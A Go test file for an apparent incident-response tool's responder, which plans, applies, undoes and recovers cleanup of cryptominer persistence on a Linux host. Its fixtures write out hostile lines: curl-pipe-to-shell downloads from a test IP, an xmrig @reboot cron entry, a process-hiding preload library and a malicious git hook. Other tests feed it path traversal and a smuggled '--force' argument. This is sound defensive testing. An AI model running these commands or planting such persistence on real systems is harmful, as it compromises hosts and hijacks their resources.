package source

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io/fs"
	"log/slog"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/minewarden/minewarden"
)

// incident is one whose miner ran as /var/tmp/.sys/kworker, with findings about the files that its name does not lead to.
func incident() minewarden.Incident {
	finding := func(rule, path, text string) minewarden.IncidentFinding {
		return minewarden.IncidentFinding{
			Rule: "persistence/" + rule, Severity: minewarden.High, Subject: minewarden.Subject{Type: minewarden.SubjectFile, ID: path},
			Evidence: []minewarden.Evidence{{Key: "place", Value: "x"}, {Key: "text", Value: text}},
		}
	}
	return minewarden.Incident{
		ID: "i1", Host: "web-1", Severity: minewarden.Critical,
		Members: []minewarden.Member{{
			Key: minewarden.ProcessKey{Boot: "another", PID: 1 << 20, Start: 1}, Name: "kworker", Exe: "/var/tmp/.sys/kworker", Severity: minewarden.Critical,
			Cgroup: "/system.slice/syshealth.service",
		}},
		Findings: []minewarden.IncidentFinding{
			finding("fetch", "/etc/crontab", "curl -fsSL http://203.0.113.9/x.sh | sh"),
			finding("miner", "/var/spool/cron/crontabs/bob", "@reboot /dev/shm/.x/xmrig -o pool.example:3333 -u 4"),
			finding("preload", "/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so"),
			finding("service", "/home/bob/.profile", "umask 022"),
			finding("intruder", "/root/.ssh/authorized_keys", "…"+evilKey[len(evilKey)-60:]),
			finding("git-hook", "/home/bob/.gitconfig", "packObjectsHook = /tmp/.gt_sys_health"),
			finding("code", "/srv/git/o/r.git/hooks/post-receive", "curl http://203.0.113.9/a|sh"),
			finding("changed", "/etc/profile.d/lang.sh", "export LANG=C"),
			finding("changed", "/etc/gone", "x"),
		},
	}
}

// want is what the plan for that incident does: op and file.
var want = []string{
	"clean-profile /etc/rc.local", "clean-profile /home/bob/.profile", "clean-profile /root/.bashrc",
	"disable-cron /etc/cron.d/apache", "disable-cron /etc/cron.hourly/sync", "disable-cron /etc/crontab", "disable-cron /var/spool/cron/crontabs/bob",
	"disable-hook /home/bob/.gitconfig", "disable-hook /srv/git/o/r.git/hooks/post-receive",
	"disable-unit /etc/systemd/system/nginx.service.d/o.conf", "disable-unit /etc/systemd/system/syshealth.service", "disable-unit /etc/systemd/system/syshealth.timer",
	"remove-key /root/.ssh/authorized_keys", "remove-preload /etc/ld.so.preload",
}

func plan(t *testing.T, r *Responder, inc minewarden.Incident) (todo []minewarden.Action, refused []string) {
	t.Helper()
	all, err := r.Plan(t.Context(), inc)
	if err != nil {
		t.Fatal(err)
	}
	for _, a := range all {
		if len(a.Blast) > 0 {
			todo = append(todo, a)
		} else {
			refused = append(refused, a.Op+" "+a.Target.ID+": "+strings.Join(a.Refused, "; "))
		}
	}
	return todo, refused
}

func TestPlan(t *testing.T) {
	dir := makeTree(t)
	r := newSource(t, dir, t.TempDir(), nil)
	before := snapshot(t, dir)
	todo, refused := plan(t, r, incident())
	var got []string
	for _, a := range todo {
		got = append(got, a.Op+" "+a.Target.ID)
		if a.Params[ParamDiff] == "" || !a.Reversible || a.Incident != "i1" || a.Responder != Name {
			t.Errorf("%s: %+v", a.ID, a)
		}
		if strings.Contains(fmt.Sprint(a), "hunter2") {
			t.Errorf("%s shows a secret: %s", a.ID, a.Params[ParamDiff])
		}
	}
	slices.Sort(got)
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("plan (-want +got):\n%s", diff)
	}
	wantRefused := []string{`clean-profile /etc/profile.d/lang.sh: "/etc/profile.d/lang.sh": which of its lines are the miner's cannot be told: look at it by hand`}
	if diff := cmp.Diff(wantRefused, refused); diff != "" {
		t.Errorf("refused (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff(before, snapshot(t, dir)); diff != "" {
		t.Errorf("the plan changed something:\n%s", diff)
	}
}

// TestFilesByteEqual does, does again and undoes each action alone, then all together in any order.
func TestFilesByteEqual(t *testing.T) {
	dir := makeTree(t)
	r := newSource(t, dir, t.TempDir(), nil)
	before := snapshot(t, dir)
	todo, _ := plan(t, r, incident())
	for _, a := range todo {
		t.Run(a.Op+strings.ReplaceAll(a.Target.ID, "/", "-"), func(t *testing.T) {
			receipt, err := r.Do(t.Context(), a)
			if err != nil || !receipt.OK {
				t.Fatalf("Do: %v, %+v", err, receipt)
			}
			done := snapshot(t, dir)
			if cmp.Equal(before, done) {
				t.Fatal("nothing changed")
			}
			again, err := r.Do(t.Context(), a)
			if err != nil || cmp.Diff(receipt, again) != "" {
				t.Errorf("Do again: %v\n%s", err, cmp.Diff(receipt, again))
			}
			if diff := cmp.Diff(done, snapshot(t, dir)); diff != "" {
				t.Errorf("Do again changed something:\n%s", diff)
			}
			for range 2 {
				if err := r.Undo(t.Context(), receipt); err != nil {
					t.Fatalf("Undo: %v", err)
				}
				if diff := cmp.Diff(before, snapshot(t, dir)); diff != "" {
					t.Errorf("undone (-before +after):\n%s", diff)
				}
			}
		})
	}
	todo, _ = plan(t, r, incident())
	var receipts []minewarden.Receipt
	for _, a := range todo {
		receipt, err := r.Do(t.Context(), a)
		if err != nil || !receipt.OK {
			t.Fatalf("Do %s: %v, %+v", a.ID, err, receipt)
		}
		receipts = append(receipts, receipt)
	}
	for path, text := range victim {
		b, err := os.ReadFile(dir + path)
		if err != nil || string(b) != clean(text) {
			t.Errorf("%s: %v\n%s", path, err, cmp.Diff(clean(text), string(b)))
		}
	}
	for _, path := range []string{"/etc/cron.hourly/sync", "/srv/git/o/r.git/hooks/post-receive"} {
		if st, err := os.Stat(dir + path); err != nil || st.Mode().Perm() != 0o644 {
			t.Errorf("%s: mode %v, %v", path, st.Mode(), err)
		}
	}
	for path, there := range map[string]bool{"multi-user.target.wants/syshealth.service": false, "timers.target.wants/syshealth.timer": false, "dbus-health.service": false, "multi-user.target.wants/ssh-agent.service": true} {
		if _, err := os.Lstat(dir + "/etc/systemd/system/" + path); (err == nil) != there {
			t.Errorf("link %s: %v, want there: %v", path, err, there)
		}
	}
	if left, _ := plan(t, r, incident()); len(left) > 0 {
		t.Errorf("a second plan still has %v", left)
	}
	for _, receipt := range slices.Backward(receipts) {
		if err := r.Undo(t.Context(), receipt); err != nil {
			t.Error(err)
		}
	}
	if diff := cmp.Diff(before, snapshot(t, dir)); diff != "" {
		t.Errorf("undone (-before +after):\n%s", diff)
	}
}

func one(t *testing.T, r *Responder, inc minewarden.Incident, op, path string) minewarden.Action {
	t.Helper()
	todo, _ := plan(t, r, inc)
	for _, a := range todo {
		if a.Op == op && a.Target.ID == path {
			return a
		}
	}
	t.Fatalf("no %s of %s in the plan", op, path)
	return minewarden.Action{}
}

func TestConcurrentEdits(t *testing.T) {
	for _, tt := range []struct {
		name          string
		between       func(old string) string
		want          func(old string) string
		wantUndoError string
	}{
		{"a line at the end", func(s string) string { return s + "0 1 * * * root new\n" }, func(s string) string { return s + "0 1 * * * root new\n" }, ""},
		{"a line at the start", func(s string) string { return "MAILTO=x\n" + s }, func(s string) string { return "MAILTO=x\n" + s }, ""},
		{"the neighbour", func(s string) string { return strings.Replace(s, "17 *", "18 *", 1) }, nil, "changed by somebody else"},
		{"all", func(string) string { return "new\n" }, nil, "changed by somebody else"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			dir := makeTree(t)
			r := newSource(t, dir, t.TempDir(), nil)
			a := one(t, r, incident(), OpDisableCron, "/etc/crontab")
			receipt, err := r.Do(t.Context(), a)
			if err != nil || !receipt.OK {
				t.Fatal(err, receipt.Result)
			}
			b, err := os.ReadFile(dir + "/etc/crontab")
			if err != nil {
				t.Fatal(err)
			}
			theirs := tt.between(string(b))
			if err := os.WriteFile(dir+"/etc/crontab", []byte(theirs), 0o640); err != nil {
				t.Fatal(err)
			}
			err = r.Undo(t.Context(), receipt)
			got, rerr := os.ReadFile(dir + "/etc/crontab")
			if rerr != nil {
				t.Fatal(rerr)
			}
			if tt.wantUndoError != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantUndoError) || string(got) != theirs {
					t.Errorf("Undo = %v, content:\n%s", err, got)
				}
				return
			}
			if want := tt.want(dirty(victim["/etc/crontab"])); err != nil || string(got) != want {
				t.Errorf("Undo = %v\n%s", err, cmp.Diff(want, string(got)))
			}
		})
	}
}

func TestChangedBetweenPlanAndDo(t *testing.T) {
	dir := makeTree(t)
	r := newSource(t, dir, t.TempDir(), nil)
	for path, meddle := range map[string]func(string) error{
		"/etc/crontab":       func(p string) error { return os.WriteFile(p, []byte("new\n"), 0o600) },
		"/etc/cron.d/apache": func(p string) error { return os.Remove(p) },
		"/var/spool/cron/crontabs/bob": func(p string) error {
			return errorsJoin(os.Rename(p, p+".x"), os.Symlink(dir+"/etc/shadow", p))
		},
	} {
		a := one(t, r, incident(), OpDisableCron, path)
		if err := meddle(dir + path); err != nil {
			t.Fatal(err)
		}
		before := snapshot(t, dir)
		receipt, err := r.Do(t.Context(), a)
		if err != nil || receipt.OK {
			t.Errorf("%s: Do = %+v, %v", path, receipt, err)
		}
		if diff := cmp.Diff(before, snapshot(t, dir)); diff != "" {
			t.Errorf("%s: a refused Do changed something:\n%s", path, diff)
		}
	}
}

func errorsJoin(errs ...error) error {
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	return nil
}

// TestLinksAreNotFollowed puts links where a user may: what they lead to is another's.
func TestLinksAreNotFollowed(t *testing.T) {
	dir := makeTree(t)
	for _, err := range []error{
		os.Remove(dir + "/home/bob/.profile"), os.Symlink("../../etc/crontab", dir+"/home/bob/.profile"),
		os.Remove(dir + "/home/bob/.gitconfig"), os.Link(dir+"/etc/shadow", dir+"/home/bob/.gitconfig"),
	} {
		if err != nil {
			t.Fatal(err)
		}
	}
	r := newSource(t, dir, t.TempDir(), nil)
	todo, refused := plan(t, r, incident())
	for _, a := range todo {
		if strings.HasPrefix(a.Target.ID, "/home/bob/.") {
			t.Errorf("planned: %s %s", a.Op, a.Target.ID)
		}
	}
	if !strings.Contains(strings.Join(refused, "\n"), "symbolic link") || !strings.Contains(strings.Join(refused, "\n"), "more names") {
		t.Errorf("refused: %q", refused)
	}
}

// TestHomesThatAreNone plans without a warning where accounts have a link, a file or nothing for a home, as system accounts do.
func TestHomesThatAreNone(t *testing.T) {
	dir := makeTree(t)
	passwd, err := os.ReadFile(dir + "/etc/passwd")
	if err != nil {
		t.Fatal(err)
	}
	passwd = append(passwd, "bin:x:2:2::/bin:/usr/sbin/nologin\nsync:x:4:4::/bin/sync:/bin/sync\nnone:x:5:5::/nonexistent:/bin/false\n"...)
	for _, err := range []error{
		os.WriteFile(dir+"/etc/passwd", passwd, 0o644), os.MkdirAll(dir+"/usr/bin", 0o755), os.Symlink("usr/bin", dir+"/bin"), os.WriteFile(dir+"/usr/bin/sync", nil, 0o755),
	} {
		if err != nil {
			t.Fatal(err)
		}
	}
	var log bytes.Buffer
	r := newSource(t, dir, t.TempDir(), nil)
	r.book.Log = slog.New(slog.NewTextHandler(&log, nil))
	plan(t, r, incident())
	if log.Len() > 0 {
		t.Error(log.String())
	}
}

// TestLastKey refuses the key that is the only way in of the only one who may become root.
func TestLastKey(t *testing.T) {
	dir := makeTree(t)
	for path, text := range map[string]string{"/etc/shadow": "root:*:1::::::\nbob:!:1::::::\n", "/root/.ssh/authorized_keys": evilKey + "\n"} {
		if err := os.WriteFile(dir+path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	_, refused := plan(t, newSource(t, dir, t.TempDir(), nil), incident())
	if !strings.Contains(strings.Join(refused, "\n"), "nobody who may become root could log in") {
		t.Errorf("refused: %q", refused)
	}
}

// TestCrash ends each action at each point where it writes its journal, and looks what the next start makes of it.
func TestCrash(t *testing.T) {
	dir := makeTree(t)
	before := snapshot(t, dir)
	r := newSource(t, dir, t.TempDir(), nil)
	todo, _ := plan(t, r, incident())
	for _, a := range todo {
		for keep := 1; keep <= 3; keep++ { // lines of the journal that the crash left: intent, saved, done
			for _, changed := range []bool{false, true} {
				if keep == 1 && changed || keep == 3 && !changed {
					continue
				}
				data := t.TempDir()
				r := newSource(t, dir, data, nil)
				receipt, err := r.Do(t.Context(), a)
				if err != nil || !receipt.OK {
					t.Fatal(err, receipt.Result)
				}
				if !changed { // back in time
					if err := r.Undo(t.Context(), receipt); err != nil {
						t.Fatal(err)
					}
				}
				cutJournal(t, filepath.Join(data, "journal", a.ID+".jsonl"), keep)
				r = newSource(t, dir, data, nil)
				receipts, err := r.Recover(t.Context())
				if err != nil || len(receipts) != 1 {
					t.Fatalf("%s, %d lines: Recover = %v, %v", a.ID, keep, receipts, err)
				}
				got := receipts[0]
				completes := a.Op == OpDisableUnit && strings.HasSuffix(a.Target.ID, "r") || strings.HasSuffix(a.Target.ID, ".service")
				if want := changed || keep == 2 && completes; got.OK != want {
					t.Errorf("%s %s, %d lines, changed %v: receipt %+v", a.Op, a.Target.ID, keep, changed, got)
				}
				if err := r.Undo(t.Context(), got); err != nil {
					t.Errorf("%s: Undo: %v", a.ID, err)
				}
				now := snapshot(t, dir)
				if diff := cmp.Diff(content(before), content(now)); diff != "" {
					t.Errorf("%s, %d lines:\n%s", a.ID, keep, diff)
				}
				restoreTimes(t, dir)
			}
		}
	}
}

// content leaves the times of directories out: where a crash lost when ours was, they are not set back.
func content(s map[string]string) map[string]string {
	out := maps.Clone(s)
	for k, v := range out {
		if strings.HasPrefix(v, "4") {
			out[k] = "directory"
		}
	}
	return out
}

func restoreTimes(t *testing.T, dir string) {
	t.Helper()
	at := time.Unix(1_700_000_000, 123_456_789)
	err := filepath.WalkDir(dir, func(path string, d fs.DirEntry, err error) error {
		if err == nil && d.IsDir() {
			err = os.Chtimes(path, at, at)
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
}

func cutJournal(t *testing.T, path string, lines int) {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	kept := strings.Join(strings.SplitAfter(string(b), "\n")[:lines], "")
	if err := os.WriteFile(path, []byte(kept+`{"phase":"do`), 0o600); err != nil {
		t.Fatal(err)
	}
}

func TestHostileActions(t *testing.T) {
	dir := makeTree(t)
	r := newSource(t, dir, t.TempDir(), nil)
	before := snapshot(t, dir)
	for i, c := range []change{
		{Kind: kindLines, Path: "/../../etc/passwd"},
		{Kind: kindLines, Path: "/etc/crontab", SHA: "x"},
		{Kind: kindMode, Path: "/etc"},
		{Kind: kindUnit, Unit: "--force", Path: "/etc/crontab"},
		{Kind: "other"},
		{},
	} {
		raw, err := json.Marshal(c)
		if err != nil {
			t.Fatal(err)
		}
		a := minewarden.Action{ID: fmt.Sprintf("x%d", i), Responder: Name, Op: OpDisableCron, Params: map[string]string{paramChange: string(raw)}}
		if receipt, err := r.Do(context.Background(), a); err == nil && receipt.OK {
			t.Errorf("%+v was done", c)
		}
	}
	if diff := cmp.Diff(before, snapshot(t, dir)); diff != "" {
		t.Error(diff)
	}
}
